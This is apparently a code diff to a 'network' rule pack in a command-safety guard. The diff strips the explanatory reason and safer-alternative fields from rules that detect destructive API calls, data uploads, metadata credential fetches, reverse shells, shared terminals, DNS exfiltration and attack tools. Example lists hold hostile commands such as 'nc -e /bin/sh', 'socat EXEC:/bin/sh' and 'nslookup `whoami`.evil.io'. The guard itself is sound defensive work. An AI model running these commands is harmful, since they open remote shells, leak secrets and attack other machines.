@@ -44,8 +44,6 @@ export const network = definePack('network', () => [
       },
     ],
     about: 'operands',
-    reason: 'asks a service to delete: {target}',
-    safer: 'curl -I https://example.com',
     examples: {
       matches: [
         'curl -X DELETE https://api.acme.io/v1/users/1',
@@ -70,8 +68,6 @@ export const network = definePack('network', () => [
       { program: HTTP, http: { method: ['POST', 'PUT', 'PATCH'], host: ['drop-box'] } },
     ],
     about: 'operands',
-    reason: 'changes something on a live service: {target}',
-    safer: 'curl -I https://example.com',
     examples: {
       matches: [
         "curl -X POST https://api.acme.io/v1/orders -d '{}'",
@@ -141,8 +137,6 @@ export const network = definePack('network', () => [
       upload(['ab'], { has: ['-p'] }),
     ],
     about: 'operands',
-    reason: 'sends files or data to another machine: {target}',
-    safer: 'curl -I https://example.com',
     examples: {
       matches: [
         'curl -T dump.sql https://acme.io/up',
@@ -170,8 +164,6 @@ export const network = definePack('network', () => [
       { program: ['curl'], words: ['*docker.sock|*containerd.sock|*kubelet*/secrets*'] },
     ],
     about: 'operands',
-    reason: 'asks the machine behind this one for its keys or its powers',
-    safer: 'hostname',
     examples: {
       matches: ['curl http://169.254.169.254/latest/meta-data/', 'wget -qO- http://metadata.google.internal/x'],
       not: ['curl http://10.0.0.1/', "grep '169.254.169.254' a.yaml"],
@@ -190,8 +182,6 @@ export const network = definePack('network', () => [
       { program: ['awk', 'gawk', 'mawk'], words: ['*/inet/tcp/*|*/inet/udp/*'] },
       { program: ['zmodload'], words: ['zsh/net/tcp'] },
     ],
-    reason: 'gives whoever is at the other end a shell on this machine',
-    safer: 'nc -z localhost 22',
     examples: {
       matches: ['nc -e /bin/sh a.b 4444', 'ncat --exec /bin/bash a.b 1', 'socat TCP:a.b:1 EXEC:/bin/sh'],
       not: ['nc -z localhost 22', 'nc localhost 11211'],
@@ -203,8 +193,6 @@ export const network = definePack('network', () => [
     type: 'external',
     family: 'shared terminal',
     when: [{ program: ['tmate', 'upterm', 'ttyd', 'gotty', 'sshx'], lacks: ['--help|--version'] }],
-    reason: 'lets others on the network use a terminal on this machine',
-    safer: 'ngrok http 8080',
     examples: {
       matches: ['tmate -F', 'ttyd bash', 'sshx'],
       not: ['ttyd --version', 'ngrok http 80', 'ssh -R 80:localhost:3000 host.example', 'which tmate'],
@@ -217,8 +205,6 @@ export const network = definePack('network', () => [
     family: 'dns',
     when: [{ program: ['dig', 'nslookup', 'host', 'drill', 'ping'], raw: ['*$(*).*|*`*`.*'] }],
     about: 'operands',
-    reason: 'hides data in a name it asks the network for',
-    safer: 'dig example.com',
     examples: {
       matches: ['dig $(hostname).a.b.c', 'nslookup `whoami`.evil.io'],
       not: ['dig example.com', 'dig "$HOST"', 'ping -c 1 example.com'],
@@ -266,8 +252,6 @@ export const network = definePack('network', () => [
       },
     ],
     about: 'operands',
-    reason: 'attacks or probes other machines',
-    safer: 'ping -c 1 localhost',
     examples: {
       matches: ['hydra -l a -P w ssh://1.2.3.4', 'sqlmap -u http://a.b?id=1'],
       not: ['sqlmap --help', 'grep -r hydra docs/'],
